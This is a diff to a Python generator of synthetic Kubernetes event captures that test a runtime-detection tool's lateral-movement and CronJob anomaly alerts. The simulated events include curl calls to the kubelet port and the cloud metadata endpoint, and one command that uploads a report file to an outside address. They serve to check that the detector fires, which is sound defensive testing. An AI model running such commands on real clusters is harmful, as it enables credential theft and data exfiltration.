@@ -22,6 +22,7 @@ arrive in event-time order, and the alerts below are exact whatever the replay p
 
 from __future__ import annotations
 
+import dataclasses
 import json
 from pathlib import Path
 from typing import Any
@@ -48,15 +49,38 @@ def _ctr(pod: str, owner: tuple[str, str], labels: str, image: str, n: int, *, i
 
 
 class Gen(ex.Gen):  # type: ignore[misc,name-defined]
-    """The example generator, with a start time per container (a rollout starts later)."""
+    """The example generator, with a start time and a namespace per container (a rollout
+    starts later; the lateral-movement cluster spans namespaces), and with what IG's owner
+    walk yields: the top-level owner, or none when the walk failed (`owners`)."""
 
-    def __init__(self, started: dict[str, int]) -> None:
+    def __init__(
+        self,
+        started: dict[str, int],
+        namespaces: dict[str, str] | None = None,
+        owners: dict[str, tuple[str, str]] | None = None,
+    ) -> None:
         super().__init__()
         self.started = started
+        self.namespaces = namespaces or {}
+        self.owners = owners or {}
 
     def runtime(self, c: Any) -> dict[str, Any]:
         out: dict[str, Any] = ex.Gen.runtime(c)
         out["containerStartedAt"] = self.started.get(c.cid, T0)
+        return out
+
+    def k8s(self, c: Any) -> dict[str, Any]:
+        out: dict[str, Any] = ex.Gen.k8s(c)
+        out["namespace"] = self.namespaces.get(c.cid, NAMESPACE)
+        if c.cid in self.owners:
+            kind, name = self.owners[c.cid]
+            out["owner"] = {"kind": kind, "name": name}
+        return out
+
+    @staticmethod
+    def peer(addr: str, port: int, kind: str, name: str, ns: str, labels: str) -> dict[str, Any]:
+        out: dict[str, Any] = ex.Gen.endpoint(addr, port, kind, name, ns)
+        out["k8s"]["labels"] = labels
         return out
 
 
@@ -140,6 +164,95 @@ def lifecycle() -> list[dict[str, Any]]:
     return [line for _, _, line in sorted(g.lines, key=lambda x: (x[0], x[1]))]
 
 
+# -- lateral movement and CronJob runs ------------------------------------------------------------
+
+#: Namespaces of the lateral-movement capture.
+SHOP, SYSTEM, JOBS = "shop", "kube-system", "jobs"
+NODE_IP = "10.0.0.12"
+METADATA = "169.254.169.254"
+
+FRONT = _ctr("front-6d5c4b3a2-k8s7d", ("Deployment", "front"),
+             "app=front,pod-template-hash=6d5c4b3a2", "ghcr.io/example/front:1.0.0", 6,
+             ip="10.244.1.40")  # fmt: skip
+METRICS = _ctr("metrics-server-5f6d7c8b9-abcde", ("Deployment", "metrics-server"),
+               "k8s-app=metrics-server,pod-template-hash=5f6d7c8b9",
+               "registry.k8s.io/metrics-server/metrics-server:v0.7.2", 7, ip="10.244.1.41",
+               name="metrics-server")  # fmt: skip
+#: Two runs of CronJob `report-gen`, five scheduled minutes apart. IG's owner walk failed for
+#: the first (no owner, only the Job's labels); the second carries its direct owner, the Job.
+RUN1_JOB, RUN2_JOB = "report-gen-29384710", "report-gen-29384715"
+RUN1 = _ctr(f"{RUN1_JOB}-x7k2p", ("", ""),
+            f"batch.kubernetes.io/job-name={RUN1_JOB},job-name={RUN1_JOB}",
+            "ghcr.io/example/report:4.2.0", 8, ip="10.244.1.50", name="report")  # fmt: skip
+RUN2 = dataclasses.replace(  # the same image, another container
+    _ctr(f"{RUN2_JOB}-q9m4z", ("Job", RUN2_JOB),
+         f"batch.kubernetes.io/job-name={RUN2_JOB},job-name={RUN2_JOB}",
+         "ghcr.io/example/report:4.2.0", 9, ip="10.244.1.51", name="report"),
+    digest=RUN1.digest,
+)  # fmt: skip
+RUN2_AT = T0 + 5 * MIN
+
+DB_LABELS = "app=db,pod-template-hash=6b8f9c7d5"
+PAY_LABELS = "app=payments,pod-template-hash=7d9c8b6a5"
+
+
+def _connect(g: Gen, c: Any, ts: int, dst: dict[str, Any], *, comm: str = "front",
+             pid: int = 10, sport: int = 40000) -> None:  # fmt: skip
+    g.tcp(c, ts, comm=comm, pid=pid, kind="connect", src=g.endpoint(c.ip, sport), dst=dst)
+
+
+def _front(g: Gen) -> None:
+    def db(pod: str, ip: str) -> dict[str, Any]:
+        return g.peer(ip, 5432, "pod", pod, "data", DB_LABELS)
+
+    cache = g.peer("10.96.3.4", 6379, "svc", "cache", SHOP, "")
+    for k in range(5):  # learning: the database (one pod) and the cache Service
+        t = T0 + (5 + 10 * k) * SEC
+        _connect(g, FRONT, t, db("db-6b8f9c7d5-aaaaa", "10.244.2.7"), sport=41000 + k)
+        _connect(g, FRONT, t + SEC, cache, sport=42000 + k)
+    t = T0 + 2 * MIN  # the database pod was rescheduled: new name, new address, same workload
+    _connect(g, FRONT, t, db("db-6b8f9c7d5-bbbbb", "10.244.2.9"), sport=43000)
+    _connect(g, FRONT, t + SEC, cache, sport=43001)
+    t = T0 + 3 * MIN  # the intrusion: another namespace's database, the kubelet, the IMDS
+    pay = g.peer("10.244.3.9", 5432, "pod", "payments-7d9c8b6a5-ccccc", "payments", PAY_LABELS)
+    _connect(g, FRONT, t, pay, comm="psql", pid=700, sport=44000)
+    _connect(g, FRONT, t + SEC, g.endpoint(NODE_IP, 10250), comm="curl", pid=701, sport=44001)
+    _connect(g, FRONT, t + 2 * SEC, g.endpoint(METADATA, 80), comm="curl", pid=702, sport=44002)
+    # Repeats: deduplicated.
+    _connect(g, FRONT, t + 3 * SEC, g.endpoint(NODE_IP, 10250), comm="curl", pid=703, sport=44003)
+
+
+def _metrics_server(g: Gen) -> None:
+    # Scrapes the kubelet all the time: allowed for R2102 by the binding, learned for R2100.
+    for k in range(30):
+        _connect(g, METRICS, T0 + (3 + 10 * k) * SEC, g.endpoint(NODE_IP, 10250),
+                 comm="metrics-server", pid=1, sport=45000 + k)  # fmt: skip
+
+
+def _report_runs(g: Gen) -> None:
+    for c, t in ((RUN1, T0), (RUN2, RUN2_AT)):
+        g.exec_(c, t + SEC, exe="/usr/local/bin/report", args=["report", "--daily"], pid=1,
+                pcomm="containerd-shim", ppid=c.pid - 20)  # fmt: skip
+        g.exec_(c, t + 2 * SEC, exe="/usr/bin/gzip", args=["gzip", "-9", "/out/report.csv"],
+                pid=2, pcomm="report", ppid=1)  # fmt: skip
+    # The second run does something no run did while the CronJob's profile learned.
+    g.exec_(RUN2, RUN2_AT + 3 * SEC, exe="/usr/bin/curl",
+            args=["curl", "-sT", "/out/report.csv", "http://203.0.113.50/up"], pid=3,
+            pcomm="report", ppid=1)  # fmt: skip
+
+
+def lateral() -> list[dict[str, Any]]:
+    g = Gen(
+        {RUN2.cid: RUN2_AT},
+        namespaces={METRICS.cid: SYSTEM, RUN1.cid: JOBS, RUN2.cid: JOBS},
+        owners={RUN1.cid: ("", "")},
+    )
+    _front(g)
+    _metrics_server(g)
+    _report_runs(g)
+    return [line for _, _, line in sorted(g.lines, key=lambda x: (x[0], x[1]))]
+
+
 def write_capture(path: Path, lines: list[dict[str, Any]], description: str) -> Path:
     header = {
         "gadgetwatchCapture": 1,
@@ -159,6 +272,18 @@ def _e(rule: str, c: Any, key: str) -> Expected:
     kind, name = "Deployment", c.owner_name.rsplit("-", 1)[0]
     return Expected(rule, kind, name, c.pod, c.name, key)
 
+
+def _x(rule: str, c: Any, key: str, kind: str, name: str) -> Expected:
+    return Expected(rule, kind, name, c.pod, c.name, key)
+
+
+LATERAL_EXPECTED: tuple[Expected, ...] = (
+    _x("R2100", FRONT, "10.244.3.9:5432", "Deployment", "front"),
+    _x("R2100", FRONT, f"{NODE_IP}:10250", "Deployment", "front"),
+    _x("R2102", FRONT, f"{NODE_IP}:10250", "Deployment", "front"),
+    _x("R2101", FRONT, f"{METADATA}:80", "Deployment", "front"),
+    _x("R0001", RUN2, "/usr/bin/curl", "CronJob", "report-gen"),
+)
 
 LIFECYCLE_EXPECTED: tuple[Expected, ...] = (
     _e("R0002", SESS, "/etc/shadow"),
